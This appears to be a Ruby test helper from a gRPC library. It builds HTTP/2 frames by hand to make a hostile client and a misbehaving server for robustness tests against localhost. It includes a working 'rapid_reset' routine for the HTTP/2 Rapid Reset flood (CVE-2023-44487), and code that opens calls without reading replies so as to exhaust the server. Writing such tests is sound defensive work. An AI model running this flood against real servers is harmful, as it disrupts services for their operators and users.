# frozen_string_literal: true

require "socket"
require "rbconfig"

# A hostile HTTP/2 peer built from Ruby sockets: hand-built frames (RFC 9113) with HPACK
# literals only (RFC 7541, no Huffman, no table), so it can do what no well-behaved client
# does: send calls and never read its socket, reset every stream it opens, hold connections.
class HostilePeer
  PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".b
  HEADERS = 0x1
  RST_STREAM = 0x3
  SETTINGS = 0x4
  DATA = 0x0
  END_STREAM = 0x1
  END_HEADERS = 0x4
  CANCEL = 0x8

  attr_reader :socket

  # Runs code in a child Ruby (an attacker is another process: it does not share the
  # server's GVL); returns a Thread whose value is the child's stdout.
  def self.spawn(code)
    r, w = IO.pipe
    pid = Process.spawn(RbConfig.ruby, "-r", __FILE__, "-e", code, out: w)
    w.close
    Thread.new do
      out = r.read
      Process.wait(pid)
      r.close
      out
    end
  end

  # rcvbuf: a small receive buffer so that the server's replies fill the connection quickly.
  def initialize(port, rcvbuf: nil, host: "127.0.0.1")
    @socket = Socket.new(:INET, :STREAM)
    @socket.setsockopt(:SOCKET, :RCVBUF, rcvbuf) if rcvbuf
    @socket.connect(Socket.sockaddr_in(port, host))
    @socket.setsockopt(:TCP, :NODELAY, 1)
    @next_stream = 1
    write(PREFACE + frame(SETTINGS, 0, 0, ""))
  end

  def self.frame(type, flags, stream, payload)
    [payload.bytesize >> 16, payload.bytesize & 0xffff, type, flags, stream].pack("CnCCN") + payload.b
  end

  def frame(...) = self.class.frame(...)

  # HPACK integer with an n-bit prefix (RFC 7541 5.1).
  def self.hpack_int(value, bits, first = 0)
    max = (1 << bits) - 1
    return [first | value].pack("C") if value < max

    out = [first | max].pack("C")
    value -= max
    while value >= 128
      out << ((value & 0x7f) | 0x80).chr
      value >>= 7
    end
    out << value.chr
  end

  # Literal header field without indexing, new name (RFC 7541 6.2.2).
  def self.hpack(headers)
    headers.map do |k, v|
      "\x00".b + hpack_int(k.bytesize, 7) + k.b + hpack_int(v.bytesize, 7) + v.b
    end.join
  end

  # The HEADERS frame of a gRPC call on stream id (end_stream: no request message follows).
  def call_headers(id, path, headers: {}, end_stream: true)
    block = self.class.hpack({ ":method" => "POST", ":scheme" => "http", ":path" => path,
                               ":authority" => "localhost", "content-type" => "application/grpc",
                               "te" => "trailers" }.merge(headers))
    frame(HEADERS, END_HEADERS | (end_stream ? END_STREAM : 0), id, block)
  end

  # Opens count calls at once (one write); returns their stream ids.
  def calls(count, path, headers: {})
    ids = Array.new(count) { take_id }
    write(ids.map { |id| call_headers(id, path, headers: headers) }.join)
    ids
  end

  # count streams opened and reset at once (HEADERS + RST_STREAM each: CVE-2023-44487).
  def rapid_reset(count, path, headers: {})
    write(Array.new(count) do
      id = take_id
      call_headers(id, path, headers: headers, end_stream: false) + frame(RST_STREAM, 0, id, [CANCEL].pack("N"))
    end.join)
  end

  # Writes without ever reading; false once the server has closed the connection.
  def write(bytes)
    @socket.write(bytes)
    true
  rescue IOError, SystemCallError
    false
  end

  # True when the server has closed (or reset) this connection; reads what is waiting.
  def closed_by_server?
    loop do
      @socket.read_nonblock(65_536)
    end
  rescue IO::WaitReadable
    false
  rescue EOFError, IOError, SystemCallError
    true
  end

  def close = @socket.close

  private

  def take_id
    id = @next_stream
    @next_stream += 2
    id
  end
end

# An evil gRPC server from Ruby sockets: answers every call on every connection with a
# trailers-only response carrying the headers given (e.g. "grpc-status" => "42").
class HostileServer
  attr_reader :port

  def initialize(trailers)
    @trailers = trailers
    @listener = TCPServer.new("127.0.0.1", 0)
    @port = @listener.addr[1]
    @conns = []
    @thread = Thread.new { loop { serve(@listener.accept) } rescue IOError } # rubocop:disable Style/RescueModifier
  end

  def close
    @listener.close
    @conns.each { |c| c.close rescue nil } # rubocop:disable Style/RescueModifier
    @thread.join
  end

  private

  def serve(sock)
    @conns << sock
    Thread.new do
      sock.read(HostilePeer::PREFACE.bytesize)
      sock.write(HostilePeer.frame(HostilePeer::SETTINGS, 0, 0, ""))
      loop do
        head = sock.read(9) or break
        hi, lo, type, flags, stream = head.unpack("CnCCN")
        sock.read((hi << 16) | lo)
        stream &= 0x7fff_ffff
        if type == HostilePeer::SETTINGS && flags.zero?
          sock.write(HostilePeer.frame(HostilePeer::SETTINGS, 1, 0, ""))
        elsif type == HostilePeer::HEADERS
          block = HostilePeer.hpack({ ":status" => "200", "content-type" => "application/grpc" }.merge(@trailers))
          sock.write(HostilePeer.frame(HostilePeer::HEADERS, HostilePeer::END_HEADERS | HostilePeer::END_STREAM,
                                       stream, block))
        end
      end
    rescue IOError, SystemCallError
      nil
    end
  end
end
